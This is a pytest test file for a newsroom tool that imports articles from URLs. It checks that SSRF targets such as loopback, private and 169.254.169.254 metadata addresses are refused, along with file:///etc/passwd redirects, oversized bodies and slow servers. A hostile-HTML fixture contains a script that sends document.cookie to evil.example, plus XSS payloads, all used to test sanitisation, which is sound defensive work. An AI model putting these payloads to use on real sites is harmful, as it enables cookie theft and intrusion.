"""Fetching an article from a URL: what is refused, and a real page extracted correctly.

The outside web is a local pytest-httpserver; nothing else is faked.
"""

from __future__ import annotations

import datetime as dt
import socket
import threading
import time
from collections.abc import Iterator
from typing import Any

import pytest
from pytest_httpserver import HTTPServer
from werkzeug import Request, Response

from claims.importing import fetch as importing
from claims.importing.fetch import ImportRefused, fetch_url

ARTICLE_HTML = """<!doctype html>
<html lang="en"><head><meta charset="utf-8">
<title>Ketamine lifts mood within hours | The Daily Example</title>
<meta name="author" content="Jane Doe">
<meta property="og:title" content="Ketamine lifts mood within hours">
<meta property="og:site_name" content="The Daily Example">
<meta property="article:published_time" content="2022-10-05T08:00:00+00:00">
</head><body>
<nav><a href="/">Home</a> <a href="/science">Science</a> <a href="/subscribe">Subscribe now</a></nav>
<article>
<h1>Ketamine lifts mood within hours</h1>
<p>On October 5, the CNRS published a press release recalling that one in three people affected by
depression does not respond to the most commonly prescribed antidepressants.</p>
<p>These results, published in the journal JAMA Psychiatry, open new therapeutic avenues in the management
of mood disorders resistant to antidepressants, according to the authors of the study.</p>
<p>“This cognitive effect could be a clinical response for people with severe depression,” said Liane Schmidt.</p>
</article>
<footer><p>Copyright The Daily Example. All rights reserved.</p></footer>
</body></html>"""

HOSTILE_HTML = """<!doctype html>
<html><head><meta charset="utf-8"><title>Hostile page</title>
<script>document.location='https://evil.example/?c='+document.cookie</script></head><body>
<article><h1>Hostile page</h1>
<p>The survey of 2,000 adults found that 40% of them slept less than six hours a night in 2021.</p>
<script>alert('xss-script')</script>
<p>Researchers said the figure <img src="x" onerror="alert('xss-onerror')"> doubled since the last survey in 2011.</p>
<p>Read <a href="javascript:alert('xss-link')">the full report</a> published by the national statistics office.</p>
<p>Its appendix prints the string &lt;script&gt;alert('xss-escaped')&lt;/script&gt; as an example of an attack.</p>
</article></body></html>"""

NO_ARTICLE_HTML = (
    "<!doctype html><html><head><title>Menu</title></head><body><nav><a href='/'>Home</a></nav></body></html>"
)


@pytest.fixture
def allow_local(settings: Any) -> Any:
    settings.IMPORT_ALLOW_PRIVATE_HOSTS = True
    return settings


@pytest.fixture
def refuse_local(settings: Any) -> Any:
    settings.IMPORT_ALLOW_PRIVATE_HOSTS = False
    return settings


# -- Refused before any connection ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("ftp://example.org/article.txt", "“ftp:” addresses"),
        ("file:///etc/passwd", "“file:” addresses"),
        ("javascript:alert(1)", "“javascript:” addresses"),
        ("example.org/article", "without http:// or https://"),
    ],
)
def test_url_with_another_scheme_is_refused(url: str, shown: str) -> None:
    with pytest.raises(ImportRefused) as refused:
        fetch_url(url)
    assert shown in str(refused.value)
    assert "http:// or https://" in str(refused.value)


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1/",
        "http://127.0.0.1:8000/admin/",
        "http://10.1.2.3/",
        "http://192.168.1.1/",
        "http://172.16.0.5/",
        "http://169.254.169.254/latest/meta-data/",
        "http://[::1]/",
        "http://[::ffff:127.0.0.1]/",
        "http://[64:ff9b::7f00:1]/",
        "http://[2002:7f00:1::]/",
        "http://[fe80::1]/",
        "http://0.0.0.0/",
        "http://localhost/",
        "https://localhost:8443/",
    ],
)
def test_private_loopback_and_link_local_hosts_are_refused(refuse_local: Any, url: str) -> None:
    with pytest.raises(ImportRefused) as refused:
        fetch_url(url)
    assert "private or local network address" in str(refused.value)
    assert "only public web pages can be imported" in str(refused.value)


def test_a_hostname_is_refused_when_any_of_its_addresses_is_private(refuse_local: Any, monkeypatch: Any) -> None:
    # The DNS answer is the outside world, so it is what the test fakes: one public, one loopback address.
    real = socket.getaddrinfo

    def fake_getaddrinfo(host: str, *args: Any, **kwargs: Any) -> Any:
        if host == "mixed.example":
            return [
                (socket.AF_INET, socket.SOCK_STREAM, 6, "", ("93.184.216.34", 80)),
                (socket.AF_INET, socket.SOCK_STREAM, 6, "", ("127.0.0.1", 80)),
            ]
        return real(host, *args, **kwargs)

    monkeypatch.setattr(socket, "getaddrinfo", fake_getaddrinfo)
    with pytest.raises(ImportRefused, match=r"127\.0\.0\.1"):
        fetch_url("http://mixed.example/story")


def test_a_local_server_is_refused_when_the_setting_is_off(refuse_local: Any, httpserver: HTTPServer) -> None:
    httpserver.expect_request("/story").respond_with_data(ARTICLE_HTML, content_type="text/html")
    with pytest.raises(ImportRefused, match="private or local network"):
        fetch_url(httpserver.url_for("/story"))
    assert httpserver.log == []


@pytest.mark.parametrize("url", ["http://[::1/", "http://example.org:99999/", "https://", "http:///path", "  "])
def test_a_malformed_url_is_refused_with_a_message(url: str) -> None:
    with pytest.raises(ImportRefused) as refused:
        fetch_url(url)
    assert "URL" in str(refused.value) or "address" in str(refused.value)


def test_an_unknown_host_is_refused_with_a_message(refuse_local: Any) -> None:
    with pytest.raises(ImportRefused, match="could not be reached") as refused:
        fetch_url("http://no-such-host.invalid/story")
    # It may be this server that is offline: the message does not put the blame on the URL alone.
    assert "try again later" in str(refused.value) and "Check the URL." not in str(refused.value)


# -- A real page ----------------------------------------------------------------------------------


def test_a_real_page_is_extracted_with_title_author_date_and_text(allow_local: Any, httpserver: HTTPServer) -> None:
    httpserver.expect_request("/news/ketamine").respond_with_data(ARTICLE_HTML, content_type="text/html; charset=utf-8")
    url = httpserver.url_for("/news/ketamine")

    imported = fetch_url(url)

    assert imported.title == "Ketamine lifts mood within hours"
    assert imported.authors == "Jane Doe"
    assert imported.published_on == dt.date(2022, 10, 5)
    assert imported.outlet == "The Daily Example"
    assert imported.url == url
    assert imported.origin == "url"
    assert "one in three people affected by" in imported.body
    assert "published in the journal JAMA Psychiatry" in imported.body
    assert "“This cognitive effect could be a clinical response" in imported.body
    # Navigation and footer are not article text; paragraphs stay paragraphs.
    assert "Subscribe now" not in imported.body
    assert "All rights reserved" not in imported.body
    assert imported.body.count("\n\n") == 2
    assert request_user_agent(httpserver).startswith("FactcheckNewsroom/")


def request_user_agent(httpserver: HTTPServer) -> str:
    request, _response = httpserver.log[-1]
    return request.headers.get("User-Agent", "")


def test_plain_text_is_kept_as_it_is(allow_local: Any, httpserver: HTTPServer) -> None:
    text = "Sleep study\n\nThe survey of 2,000 adults found that 40% slept less than six hours.\n"
    httpserver.expect_request("/story.txt").respond_with_data(text, content_type="text/plain; charset=utf-8")
    imported = fetch_url(httpserver.url_for("/story.txt"))
    assert imported.body == text
    assert imported.title == "Sleep study"


def test_an_unknown_charset_name_falls_back_to_the_pages_own(allow_local: Any, httpserver: HTTPServer) -> None:
    httpserver.expect_request("/odd").respond_with_data(
        ARTICLE_HTML.encode("utf-8"), headers={"Content-Type": "text/html; charset=klingon-1"}
    )
    assert fetch_url(httpserver.url_for("/odd")).title == "Ketamine lifts mood within hours"


def test_redirects_are_followed(allow_local: Any, httpserver: HTTPServer) -> None:
    httpserver.expect_request("/old").respond_with_data("", status=301, headers={"Location": "/new"})
    httpserver.expect_request("/new").respond_with_data(ARTICLE_HTML, content_type="text/html")
    imported = fetch_url(httpserver.url_for("/old"))
    assert imported.title == "Ketamine lifts mood within hours"
    assert imported.url == httpserver.url_for("/new")


def test_a_redirect_to_another_scheme_is_refused(allow_local: Any, httpserver: HTTPServer) -> None:
    httpserver.expect_request("/old").respond_with_data("", status=302, headers={"Location": "file:///etc/passwd"})
    with pytest.raises(ImportRefused, match="“file:” addresses"):
        fetch_url(httpserver.url_for("/old"))


def test_every_redirect_hop_is_checked_for_private_addresses(
    refuse_local: Any, httpserver: HTTPServer, monkeypatch: Any
) -> None:
    # The local server stands in for a public site; any other address stays private, as in production.
    local = socket.gethostbyname(httpserver.host)
    monkeypatch.setattr(importing, "_address_is_public", lambda address: address == local)
    httpserver.expect_request("/hop").respond_with_data(
        "", status=302, headers={"Location": "http://169.254.169.254/latest/meta-data/"}
    )
    with pytest.raises(ImportRefused, match=r"169\.254\.169\.254"):
        fetch_url(httpserver.url_for("/hop"))
    assert len(httpserver.log) == 1


def test_endless_redirects_are_refused(allow_local: Any, httpserver: HTTPServer) -> None:
    httpserver.expect_request("/loop").respond_with_data("", status=302, headers={"Location": "/loop"})
    with pytest.raises(ImportRefused, match="redirected more than 5 times"):
        fetch_url(httpserver.url_for("/loop"))


# -- Refused after connecting ---------------------------------------------------------------------


@pytest.mark.parametrize("content_type", ["image/png", "application/pdf", "application/json", "video/mp4"])
def test_content_that_is_not_html_or_text_is_refused(
    allow_local: Any, httpserver: HTTPServer, content_type: str
) -> None:
    httpserver.expect_request("/file").respond_with_data(b"\x89PNG\r\n\x1a\n" + b"\0" * 100, content_type=content_type)
    with pytest.raises(ImportRefused) as refused:
        fetch_url(httpserver.url_for("/file"))
    assert f"serves “{content_type}”, not a web page or text" in str(refused.value)


def test_a_page_with_no_article_is_refused(allow_local: Any, httpserver: HTTPServer) -> None:
    httpserver.expect_request("/menu").respond_with_data(NO_ARTICLE_HTML, content_type="text/html")
    with pytest.raises(ImportRefused, match="no article text that could be extracted"):
        fetch_url(httpserver.url_for("/menu"))


def test_an_error_status_is_refused_with_the_status(allow_local: Any, httpserver: HTTPServer) -> None:
    httpserver.expect_request("/gone").respond_with_data("Not here", status=404, content_type="text/html")
    with pytest.raises(ImportRefused, match="404 Not Found"):
        fetch_url(httpserver.url_for("/gone"))


def test_a_declared_body_over_the_cap_is_refused_before_reading(allow_local: Any, httpserver: HTTPServer) -> None:
    allow_local.IMPORT_MAX_BYTES = 1000
    httpserver.expect_request("/big").respond_with_data("<p>" + "a" * 5000 + "</p>", content_type="text/html")
    with pytest.raises(ImportRefused, match="larger than the 1000 bytes import limit"):
        fetch_url(httpserver.url_for("/big"))


def test_a_body_without_content_length_is_capped_while_streaming(allow_local: Any, httpserver: HTTPServer) -> None:
    allow_local.IMPORT_MAX_BYTES = 10_000
    sent = []

    def endless() -> Iterator[bytes]:
        yield b"<html><body><article>"
        for _ in range(40_000):  # 40 MB if read to the end
            sent.append(1)
            yield b"<p>" + b"word " * 200 + b"</p>"

    httpserver.expect_request("/stream").respond_with_response(Response(endless(), content_type="text/html"))
    with pytest.raises(ImportRefused, match="larger than the"):
        fetch_url(httpserver.url_for("/stream"))
    # The client stopped soon after the cap: the server wrote only what the socket buffers (a few MB
    # on loopback) could hold before the connection closed, never the whole body.
    assert len(sent) < 15_000


@pytest.fixture
def lying_server() -> Iterator[tuple[str, list[int]]]:
    """A raw HTTP server that declares a small Content-Length and then sends far more."""
    listener = socket.create_server(("127.0.0.1", 0))
    port = listener.getsockname()[1]
    sent: list[int] = []

    def serve() -> None:
        connection, _ = listener.accept()
        with connection:
            connection.recv(65536)
            connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 500\r\n\r\n")
            try:
                for _ in range(2000):
                    connection.sendall(b"<p>" + b"word " * 200 + b"</p>")
                    sent.append(1)
            except OSError:
                pass

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{port}/", sent
    listener.close()
    thread.join(timeout=5)


def test_a_lying_content_length_never_lets_more_than_the_cap_in(
    allow_local: Any, lying_server: tuple[str, list[int]]
) -> None:
    allow_local.IMPORT_MAX_BYTES = 10_000
    url, _sent = lying_server
    # Only the 500 declared bytes are read: a truncated fragment with no article in it.
    with pytest.raises(ImportRefused, match="no article text"):
        fetch_url(url)


def test_a_slow_server_times_out_with_a_message(allow_local: Any, httpserver: HTTPServer) -> None:
    allow_local.IMPORT_TIMEOUT_SECONDS = 0.3

    def sleepy(request: Request) -> Response:
        time.sleep(1.0)
        return Response(ARTICLE_HTML, content_type="text/html")

    httpserver.expect_request("/slow").respond_with_handler(sleepy)
    started = time.monotonic()
    with pytest.raises(ImportRefused, match=r"did not answer within 0\.3 seconds"):
        fetch_url(httpserver.url_for("/slow"))
    assert time.monotonic() - started < 0.9


def test_a_server_dripping_bytes_is_cut_off_by_the_overall_deadline(allow_local: Any, httpserver: HTTPServer) -> None:
    allow_local.IMPORT_TIMEOUT_SECONDS = 0.5

    def drip() -> Iterator[bytes]:
        for _ in range(30):  # each chunk arrives well within the per-read timeout, the whole does not
            time.sleep(0.1)
            yield b"<p>" + b"word " * 20 + b"</p>"

    httpserver.expect_request("/drip").respond_with_response(Response(drip(), content_type="text/html"))
    started = time.monotonic()
    with pytest.raises(ImportRefused, match="did not answer within"):
        fetch_url(httpserver.url_for("/drip"))
    assert time.monotonic() - started < 2.0


def test_a_closed_port_is_a_connection_error_with_a_message(allow_local: Any) -> None:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    with pytest.raises(ImportRefused, match="could not be reached"):
        fetch_url(f"http://127.0.0.1:{port}/story")


# -- Text only ------------------------------------------------------------------------------------


def test_hostile_html_is_reduced_to_inert_text(allow_local: Any, httpserver: HTTPServer) -> None:
    httpserver.expect_request("/hostile").respond_with_data(HOSTILE_HTML, content_type="text/html")
    imported = fetch_url(httpserver.url_for("/hostile"))
    assert "40% of them slept less than six hours" in imported.body
    assert "the full report" in imported.body
    for fragment in ("xss-script", "xss-onerror", "xss-link", "onerror", "javascript:", "document.cookie", "<img"):
        assert fragment not in imported.body
    # Text that merely describes markup stays text; it is escaped wherever it is shown.
    assert "<script>alert('xss-escaped')</script>" in imported.body
